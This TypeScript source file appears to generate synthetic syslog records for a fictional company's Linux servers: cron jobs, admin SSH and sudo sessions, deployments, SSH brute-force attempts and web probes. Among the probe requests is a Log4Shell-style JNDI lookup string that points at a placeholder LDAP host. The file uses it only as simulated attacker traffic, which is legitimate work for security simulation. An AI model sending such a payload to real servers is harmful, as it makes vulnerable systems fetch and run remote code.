import type { Day } from '../company';
import { type Host, hostNamed } from '../hosts';
import { hour, minute } from '../row';
import { type SyslogLine, syslogRow } from '../rows/syslog';

const triedNames = ['root', 'admin', 'ubuntu', 'test', 'oracle', 'postgres', 'git', 'user', 'pi', 'ftpuser'];
const jndi = `$${'{jndi:ldap://203.0.113.44:1389/a}'}`;
const cronJobs: Record<string, [number, string][]> = {
  'fh-edge01': [
    [60, 'root /usr/lib/update-notifier/refresh.sh'],
    [30, 'root /usr/local/bin/ban-report'],
  ],
  'fh-web01': [
    [15, 'www-data php /srv/portal/artisan schedule:run'],
    [60, 'root /usr/local/bin/rotate-logs'],
  ],
  'fh-db01': [
    [20, 'postgres /usr/local/bin/wal-archive.sh'],
    [60, 'root /usr/sbin/logrotate /etc/logrotate.conf'],
  ],
  'fh-git01': [
    [30, 'git /srv/git/bin/mirror --all'],
    [60, 'root /usr/local/bin/check-disk'],
  ],
};

/** Cron, ssh, sudo and web servers; the gateway is scanned from the internet all day. */
export function linuxHosts(today: Day): void {
  for (const host of today.company.hosts.linux) {
    cron(today, host);
    systemd(today, host);
    if (!today.isWeekend) administration(today, host);
  }
  sshScans(today, hostNamed(today.company.hosts, 'fh-edge01'));
  webProbes(today, hostNamed(today.company.hosts, 'fh-web01'));
  deployment(today, hostNamed(today.company.hosts, 'fh-web01'));
}

function put(today: Day, host: Host, at: number, line: SyslogLine): void {
  today.emit('Syslog', at, syslogRow(host, line));
}

export function sshLine(processId: number, message: string, severity: SyslogLine['severity'] = 'info'): SyslogLine {
  return { facility: 'authpriv', severity, process: 'sshd', processId, message };
}

export function cronLine(processId: number, user: string, command: string): SyslogLine {
  return { facility: 'cron', severity: 'info', process: 'CRON', processId, message: `(${user}) CMD (${command})` };
}

function cron(today: Day, host: Host): void {
  for (const [every, job] of cronJobs[host.name] ?? []) {
    const [user = 'root', ...command] = job.split(' ');
    for (let at = today.start + minute; at < today.start + 24 * hour; at += every * minute)
      put(today, host, at + 1_000, cronLine(today.random.int(900, 60_000), user, command.join(' ')));
  }
}

function systemd(today: Day, host: Host): void {
  const { random } = today;
  for (let count = random.int(40, 60); count > 0; count--) {
    const message = random.pick([
      'Started Daily apt download activities.',
      'Finished Rotate log files.',
      'Starting Cleanup of Temporary Directories...',
      'Started Session c12 of user root.',
      'fstrim.service: Deactivated successfully.',
    ]);
    put(today, host, today.start + random.next() * 24 * hour, {
      facility: 'daemon',
      severity: 'info',
      process: 'systemd',
      processId: 1,
      message,
    });
  }
  if (random.chance(0.4))
    put(today, host, today.start + random.next() * 24 * hour, {
      facility: 'kern',
      severity: 'warning',
      process: 'kernel',
      processId: 0,
      message: 'CPU0: Core temperature above threshold, cpu clock throttled',
    });
}

/** Engineers log on with their keys, from the office, and use sudo for services and packages. */
function administration(today: Day, host: Host): void {
  const { random, company } = today;
  const team = company.people.filter((person) => person.adminSam);
  for (let count = random.int(1, 4); count > 0; count--) {
    const person = random.pick(team);
    const user = person.sam.split('.')[0] ?? person.sam;
    const at = today.start + random.around(12.5, 1.5) * hour;
    const id = random.int(1_000, 60_000);
    put(
      today,
      host,
      at,
      sshLine(
        id,
        `Accepted publickey for ${user} from ${person.workstation.address} port ${random.int(40_000, 64_000)} ssh2: ED25519 SHA256:${random.hex(24)}`,
      ),
    );
    put(
      today,
      host,
      at + 50,
      sshLine(id, `pam_unix(sshd:session): session opened for user ${user}(uid=1${random.int(100, 130)}) by (uid=0)`),
    );
    const command = random.pick([
      '/usr/bin/systemctl restart nginx',
      '/usr/bin/apt-get upgrade -y',
      '/usr/bin/journalctl -n 200',
      '/usr/bin/tail -f /var/log/syslog',
      '/usr/sbin/ufw status',
    ]);
    put(today, host, at + 3 * minute, {
      facility: 'authpriv',
      severity: 'notice',
      process: 'sudo',
      processId: id + 9,
      message: `${user} : TTY=pts/0 ; PWD=/home/${user} ; USER=root ; COMMAND=${command}`,
    });
    put(
      today,
      host,
      at + random.int(5, 80) * minute,
      sshLine(id, `pam_unix(sshd:session): session closed for user ${user}`),
    );
  }
}

function sshScans(today: Day, edge: Host): void {
  const { random } = today;
  for (let scanner = random.int(6, 12); scanner > 0; scanner--) {
    const address = `203.0.113.${random.int(1, 60)}`;
    let at = today.start + random.next() * 23 * hour;
    for (let tries = random.int(8, 50); tries > 0; tries--) {
      at += random.int(2, 60) * 1_000;
      const name = random.pick(triedNames);
      const known = name === 'root' || name === 'git';
      put(
        today,
        edge,
        at,
        sshLine(
          random.int(1_000, 60_000),
          `Failed password for ${known ? '' : 'invalid user '}${name} from ${address} port ${random.int(30_000, 64_000)} ssh2`,
        ),
      );
    }
  }
}

/** The internet tries its old tricks on every web server: none of them works here. */
function webProbes(today: Day, web: Host): void {
  const { random } = today;
  for (let count = random.int(60, 110); count > 0; count--) {
    const address = random.chance(0.7) ? `198.51.100.${random.int(1, 250)}` : `203.0.113.${random.int(1, 60)}`;
    const [request, status] = random.pick([
      ['GET / HTTP/1.1', 200],
      ['GET /track?id=4471 HTTP/1.1', 200],
      ['GET /assets/app.js HTTP/1.1', 200],
      ['POST /login HTTP/1.1', 302],
      ['GET /wp-login.php HTTP/1.1', 404],
      ['GET /.env HTTP/1.1', 404],
      [`GET /?x=${jndi} HTTP/1.1`, 404],
    ] as const);
    put(today, web, today.start + random.next() * 24 * hour, {
      facility: 'local7',
      severity: 'info',
      process: 'nginx',
      processId: 812,
      message: `${address} - - "${request}" ${status} ${random.int(150, 9_000)} "-" "Mozilla/5.0"`,
    });
  }
}

/** The build server brings a new version of the portal most days: ssh with a key, from one address. */
function deployment(today: Day, web: Host): void {
  const { random } = today;
  if (today.isWeekend || random.chance(0.3)) return;
  const at = today.start + random.around(15, 0.6) * hour;
  const id = random.int(1_000, 60_000);
  put(
    today,
    web,
    at,
    sshLine(
      id,
      `Accepted publickey for deploy from 10.20.2.13 port ${random.int(40_000, 64_000)} ssh2: ED25519 SHA256:${random.hex(24)}`,
    ),
  );
  put(today, web, at + minute, {
    facility: 'authpriv',
    severity: 'notice',
    process: 'sudo',
    processId: id + 4,
    message: 'deploy : TTY=unknown ; PWD=/srv/portal ; USER=root ; COMMAND=/usr/bin/systemctl reload nginx',
  });
}
